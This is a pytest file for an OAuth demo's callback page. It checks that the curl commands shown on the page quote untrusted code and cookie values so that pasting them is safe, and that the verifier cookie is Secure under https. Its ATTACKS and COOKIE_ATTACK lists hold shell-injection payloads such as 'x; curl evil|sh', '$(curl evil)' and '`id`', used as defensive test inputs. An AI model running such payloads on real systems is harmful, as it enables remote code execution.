"""The demo's callback page (/demo/callback): the commands it prints are safe to paste, and its verifier cookie."""

from __future__ import annotations

import html
import re
import shlex
import subprocess
from collections.abc import Iterator

import pytest

from sekisho.server.settings import Settings
from tests.conftest import ISSUER, World, make_world

HTTPS_ISSUER = "https://auth.example"
# What a shell would run or expand if it were pasted unquoted: a command after `;`, a pipe, substitutions, a quote
# that ends a quoted string, a line break that ends the command, a comment.
ATTACKS = [
    "x; curl evil|sh",
    "$(curl evil)",
    "`id`",
    "it's\"",
    "x\ncurl evil|sh",
    "x #",
]
# A cookie value cannot hold `;`, a space or a line break, but can still hold a substitution.
COOKIE_ATTACK = "$(curl${IFS}evil|sh)`id`"


@pytest.fixture
def demo(database: str) -> Iterator[World]:
    with make_world(database, Settings(issuer=ISSUER, database=database, demo=True)) as running:
        yield running


def printed(page: str, block: str) -> str:
    """The text of <pre id=BLOCK> as the browser shows it (and a person copies it)."""
    found = re.search(rf'<pre id="{block}">(.*?)</pre>', page, re.S)
    assert found, page
    return html.unescape(found.group(1))


def run_in_sh(command: str) -> list[str]:
    """The argv /bin/sh builds from `command`: its first word swapped for printf, which prints each argument."""
    assert command.startswith("curl ")
    done = subprocess.run(
        ["sh", "-c", "printf '%s\\0' " + command], capture_output=True, text=True, timeout=10, check=True
    )
    return done.stdout.split("\0")[:-1]


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_exchange_command_is_one_curl_whatever_the_callback_query_holds(demo: World, attack: str) -> None:
    """Issue 21 finding 8: `/demo/callback?code=x;%20curl%20evil|sh` landed inside the printed curl command. Every
    value is quoted for a POSIX shell: the command splits into exactly the intended argv, in shlex and in sh, even
    with a verifier cookie set by someone else."""
    cookie = {"Cookie": f"sekisho_demo_verifier={COOKIE_ATTACK}"}
    page = demo.http.get("/demo/callback", params={"code": attack, "state": "s"}, headers=cookie)
    assert page.status_code == 200
    command = printed(page.text, "exchange")
    intended = [
        "curl",
        "-s",
        f"{ISSUER}/oauth/token",
        "-d",
        "grant_type=authorization_code",
        "-d",
        "client_id=sekisho-demo",
        "-d",
        f"redirect_uri={ISSUER}/demo/callback",
        "-d",
        f"code={attack}",
        "-d",
        f"code_verifier={COOKIE_ATTACK}",
    ]
    assert shlex.split(command.replace(" \\\n  ", " ")) == intended  # the line continuations, as sh reads them
    assert run_in_sh(command) == intended
    api_call = printed(page.text, "api-call")
    assert shlex.split(api_call) == [
        "curl",
        "-s",
        "-X",
        "POST",
        f"{ISSUER}/api/i",
        "-H",
        "Authorization: Bearer ACCESS_TOKEN",
    ]


def test_a_plain_code_prints_as_before(demo: World) -> None:
    """Values with nothing for a shell to interpret are printed without quotes (the command reads as it did)."""
    page = demo.http.get("/demo/callback", params={"code": "sek_ac_abc-123", "state": "s"})
    assert "-d code=sek_ac_abc-123 \\\n" in printed(page.text, "exchange")
    assert "-d code_verifier=YOUR_CODE_VERIFIER" in printed(page.text, "exchange")


@pytest.mark.parametrize(("issuer", "secure"), [(HTTPS_ISSUER, True), (ISSUER, False)])
def test_the_verifier_cookie_is_secure_under_an_https_issuer(database: str, issuer: str, secure: bool) -> None:
    """Issue 21, defense in depth: the `sekisho_demo_verifier` cookie is `Secure` when the issuer is https."""
    with make_world(database, Settings(issuer=issuer, database=database, demo=True)) as world:
        cookie = next(
            value
            for name, value in world.http.get("/").headers.multi_items()
            if name == "set-cookie" and value.startswith("sekisho_demo_verifier=")
        )
    attributes = {part.strip().lower() for part in cookie.split(";")[1:]}
    assert ("secure" in attributes) is secure, cookie
    assert {"httponly", "path=/demo", "samesite=lax"} <= attributes
